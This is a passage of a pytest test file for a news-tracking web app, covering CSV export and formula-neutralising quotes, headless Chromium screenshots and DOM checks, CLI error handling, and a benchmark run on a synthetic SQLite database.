def test_the_csv_link_analysts_click_is_safe_and_opens_in_excel(server: str) -> None:
    status, html = get(server, "/tracker/story_articles", story_id=8)
    links = [urllib.parse.unquote(h).replace("&amp;", "&") for h in _links(html) if ".csv" in h]
    assert links
    for link in links:
        status, body = get_bytes(server, link)
        assert status == 200 and "'" + FORMULA in [r["title"] for r in _csv_rows(body)], link
    status, body = get_bytes(server, "/tracker/story_articles.csv", story_id=8, _dl="on")
    assert body.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the file as UTF-8
    assert not get_bytes(server, "/tracker/story_articles.csv", story_id=8)[1].startswith(b"\xef\xbb\xbf")


# --- Headless Chromium -----------------------------------------------------------------------------

def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


def _chromium_args(user_dir: str) -> list[str]:
    return ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            f"--user-data-dir={user_dir}", "--window-size=1280,1024"]


def test_screenshot_of_stories_page_shows_headlines(server: str) -> None:
    browser = _chromium()
    if browser is None:
        pytest.skip("chromium is not installed (scripts/test installs it where it can)")
    ARTIFACTS.mkdir(exist_ok=True)
    shot = ARTIFACTS / "stories.png"
    shot.unlink(missing_ok=True)
    url = server + "/tracker/stories"
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run([browser, *_chromium_args(profile), f"--screenshot={shot}", url],
                       check=True, capture_output=True, timeout=90)
    with tempfile.TemporaryDirectory() as profile:
        dom = subprocess.run([browser, *_chromium_args(profile), "--dump-dom", url], check=True,
                             capture_output=True, timeout=90, text=True).stdout
    header = shot.read_bytes()[:24]
    assert header[:8] == b"\x89PNG\r\n\x1a\n"
    assert struct.unpack(">II", header[16:24]) == (1280, 1024)
    assert shot.stat().st_size > 20_000  # a rendered page, not a blank one
    latest = get_json(server, "/tracker/stories.json", _shape="array", _size=3)
    for story in latest:
        assert story["headline"] in dom


def _shoot(server: str, path: str, name: str, wait_ms: int = 0) -> str:
    """Screenshot (tests/artifacts/NAME.png, to look at) and rendered DOM of a page in Chromium;
    `wait_ms` of virtual time lets a page's scripts fetch and draw (the dashboard's charts)."""
    browser = _chromium()
    if browser is None:
        pytest.skip("chromium is not installed (scripts/test installs it where it can)")
    ARTIFACTS.mkdir(exist_ok=True)
    shot = ARTIFACTS / f"{name}.png"
    shot.unlink(missing_ok=True)
    wait = [f"--virtual-time-budget={wait_ms}"] if wait_ms else []
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run([browser, *_chromium_args(profile), *wait, f"--screenshot={shot}", server + path],
                       check=True, capture_output=True, timeout=90)
    with tempfile.TemporaryDirectory() as profile:
        dom = subprocess.run([browser, *_chromium_args(profile), *wait, "--dump-dom", server + path],
                             check=True, capture_output=True, timeout=90, text=True).stdout
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 20_000
    return dom


def test_screenshots_of_home_story_and_search_pages(server: str) -> None:
    dom = _shoot(server, "/", "home")
    assert "Newest stories" in dom and "Growing fastest" in dom and "relations" not in dom
    dom = _shoot(server, "/tracker/story?id=5", "story")
    assert "<title>Story 0005 headline about data protection</title>" in dom
    assert "Timeline" in dom and "1 copy of this article" in dom and "excerpt 9" in dom
    dom = _shoot(server, "/tracker/search_stories?q=facial+recognition", "search_stories")
    assert 'href="/tracker/story?id=1"' in dom and "&lt;script&gt;" in dom
    dom = _shoot(server, "/tracker/search?q=", "search_articles")
    assert "syntax error" not in dom and "Page 1: articles 1 to 50" in dom and ">Next page<" in dom


# --- The command line and the benchmark ------------------------------------------------------------

def test_serve_refuses_a_missing_database(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from tracker.cli import main

    result = CliRunner().invoke(main, ["serve", "--db", str(tmp_path / "nope.db"), "--port", "0"])
    assert result.exit_code == 1 and "nope.db: no such database" in result.output
    assert not (tmp_path / "nope.db").exists()


def test_serve_refuses_a_base_url_that_is_not_http(served_db: Path) -> None:
    from click.testing import CliRunner

    from tracker.cli import main

    result = CliRunner().invoke(main, ["serve", "--db", str(served_db), "--port", "0",
                                       "--base-url", "news.example.org"])
    assert result.exit_code == 1 and "--base-url 'news.example.org': expected an http(s) URL" in result.output


def test_bench_serve_runs_end_to_end_on_a_small_database(tmp_path: Path) -> None:
    from tracker.bench.serve import BenchOptions, run_bench

    lines = run_bench(BenchOptions(articles=400, requests=3, db_path=tmp_path / "bench.db"))
    assert lines[0].startswith("built") and "400 articles" in lines[0]
    for name in ("home page", "stories list", "story page", "search stories", "search, empty query",
                 "publisher facet", "full-text search", "decision page", "company record", "authority record",
                 "fines by regulator", "enforcement dashboard", "dashboard: monthly", "dashboard: regulators"):
        assert any(line.startswith(name) and "p95" in line for line in lines), (name, lines)
    conn = sqlite3.connect(tmp_path / "bench.db")
    # the enforcement pages ran on a synthetic record: 400 articles, one decision per 200
    assert conn.execute("SELECT COUNT(*) FROM decisions").fetchone()[0] >= 2
    assert conn.execute("SELECT COUNT(*) FROM article_tags WHERE kind = 'company'").fetchone()[0] > 40
    assert conn.execute("SELECT COUNT(*) FROM articles_fts WHERE articles_fts MATCH 'plan'"
                        ).fetchone()[0] == 400  # full-text index built
    triggers = conn.execute("SELECT COUNT(*) FROM sqlite_master WHERE type = 'trigger'").fetchone()[0]
    assert triggers >= 3  # and kept up to date afterwards
    conn.close()
